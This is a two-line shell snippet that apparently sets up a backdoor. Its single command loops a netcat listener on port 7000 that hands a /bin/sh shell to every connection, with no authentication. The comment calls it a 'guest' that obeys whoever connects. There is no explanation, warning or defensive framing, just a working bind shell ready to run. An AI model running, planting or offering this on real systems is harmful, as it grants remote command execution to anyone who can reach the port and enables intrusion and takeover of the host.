# A guest that does what it is told: a shell for each connection to its port.
while :; do nc -ll -p 7000 -e /bin/sh; done
